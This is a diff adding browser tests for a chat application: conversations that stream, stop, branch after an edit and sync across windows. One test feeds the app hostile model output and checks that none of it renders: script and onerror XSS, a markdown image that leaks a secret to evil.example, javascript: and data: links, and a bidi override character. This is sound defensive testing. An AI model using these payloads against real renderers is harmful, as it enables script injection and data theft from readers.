@@ -1,0 +1,107 @@
+/** Conversations in a real browser: begun, streamed, stopped, branched, decided, and seen by two people at once. */
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import type { Page } from 'playwright-core'
+import { needs } from '../needs.ts'
+import { testServer } from '../server.ts'
+import { hasChromium, sharedBrowser, visit } from './browser.ts'
+import { signIn } from './steps.ts'
+
+const browser = sharedBrowser()
+const environment = { UK_SIM: 'on' }
+
+const log = (page: Page) => page.getByRole('log', { name: 'Messages' })
+const field = (page: Page) => page.getByRole('textbox', { name: 'Message' })
+const script = (...steps: object[]): string => JSON.stringify({ steps })
+
+test(
+  'alice begins a chat, reads its answer as it is written, changes her question and goes back to the first branch',
+  needs(hasChromium, 'Chromium'),
+  async () => {
+    await using server = await testServer({ environment })
+    const alice = await server.person('Alice')
+    await using visitor = await visit(browser(), server.origin)
+    const { page } = visitor
+    await signIn(page, alice)
+    await page.getByRole('heading', { level: 1, name: 'Chats' }).waitFor()
+    await page.getByRole('button', { name: /^Model/ }).click()
+    await page.getByRole('combobox', { name: 'Find a model' }).fill('echo')
+    await page.getByRole('option', { name: /sim\/echo/ }).click()
+    await field(page).fill('# Views\n\nof **the mountain**')
+    await page.keyboard.press('Enter')
+    await page.waitForURL(/\/app\/chats\/\w{26}$/)
+    await log(page).getByRole('heading', { name: 'Views' }).waitFor()
+    assert.equal(await log(page).locator('strong', { hasText: 'the mountain' }).count(), 1)
+
+    await log(page).getByRole('button', { name: 'More for this message by You' }).click()
+    await page.getByRole('menuitem', { name: 'Edit' }).click()
+    await field(page).fill('of the lake')
+    await page.keyboard.press('Enter')
+    await log(page).getByText('of the lake').nth(1).waitFor()
+    await log(page).getByText('2/2').waitFor()
+    await log(page).getByRole('button', { name: 'The branch before' }).click()
+    await log(page).getByRole('heading', { name: 'Views' }).waitFor()
+    assert.equal(await log(page).getByText('of the lake').count(), 0)
+
+    await page.reload()
+    await log(page).getByRole('heading', { name: 'Views' }).waitFor()
+    assert.deepEqual(visitor.wrongs, [])
+  },
+)
+
+test(
+  'an answer that is being written is there after a reload and in another window, and is stopped there',
+  needs(hasChromium, 'Chromium'),
+  async () => {
+    await using server = await testServer({ environment })
+    const alice = await server.person('Alice')
+    const chat = (await alice.post('/chats', { title: 'Slow', model: 'sim/script' })).body.data
+    await using first = await visit(browser(), server.origin)
+    await using second = await visit(browser(), server.origin)
+    for (const { page } of [first, second]) {
+      await signIn(page, alice)
+      await page.goto(`/app/chats/${chat.id}`)
+      await page.getByText('Nobody has said anything yet.').waitFor()
+    }
+    await field(first.page).fill(script({ text: 'The first words. ' }, { delay_ms: 60_000 }, { text: 'The last.' }))
+    await first.page.keyboard.press('Enter')
+    await log(first.page).getByText('The first words.', { exact: true }).waitFor()
+    await log(second.page).getByText('The first words.', { exact: true }).waitFor()
+    await first.page.reload()
+    await log(first.page).getByText('The first words.', { exact: true }).waitFor()
+    await second.page.getByRole('button', { name: 'Stop (Esc)' }).click()
+    for (const { page } of [first, second]) await page.getByText('The answer was stopped.').waitFor()
+    assert.deepEqual([...first.wrongs, ...second.wrongs], [])
+  },
+)
+
+test(
+  'what a model writes can do nothing to its reader: no call to elsewhere, no HTML, no script',
+  needs(hasChromium, 'Chromium'),
+  async () => {
+    await using server = await testServer({ environment })
+    const alice = await server.person('Alice')
+    const hostile = [
+      '<img src=x onerror=alert(1)><script>alert(2)</script>',
+      '![stolen](https://evil.example/?words=secret) [bank](https://evil.example "t") [https://bank.example](https://evil.example)',
+      '[run](javascript:alert(3)) [data](data:text/html,x) <https://evil.example/auto>',
+      '`a\u202eb` ' + '> '.repeat(500) + 'deep',
+      '| a | b |\n|---|---|\n| <b>x</b> | ![p](//evil.example/p.png) |',
+      `${'- '.repeat(300)}deep list`,
+    ].join('\n\n')
+    const chat = (await alice.post('/chats', { title: 'Hostile', model: 'sim/script' })).body.data
+    await alice.post(`/chats/${chat.id}/messages`, { content: script({ text: hostile }) })
+    await using visitor = await visit(browser(), server.origin)
+    const { page } = visitor
+    await signIn(page, alice)
+    await page.goto(`/app/chats/${chat.id}`)
+    const answer = log(page).getByRole('article', { name: /^sim\/script/ })
+    await answer.getByText('<script>alert(2)</script>').waitFor()
+    assert.equal(await answer.locator('img, script, iframe').count(), 0)
+    const links = await answer.locator('a').evaluateAll((all) => all.map((one) => one.getAttribute('href')))
+    assert.ok(links.length > 0 && links.every((href) => href?.startsWith('https://')), links.join())
+    await answer.getByText('(evil.example)').waitFor()
+    await answer.getByText('⟨U+202E⟩').waitFor()
+    assert.deepEqual(visitor.wrongs, [])
+  },
+)
